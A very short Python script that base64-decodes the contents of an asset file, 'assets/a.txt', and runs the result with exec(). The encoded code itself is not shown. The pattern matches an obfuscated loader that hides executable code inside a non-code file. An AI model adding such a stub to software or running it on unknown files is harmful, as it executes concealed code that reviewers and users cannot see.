import base64

part = base64.b64decode(open("assets/a.txt").read())
whole = part.decode()
exec(whole)
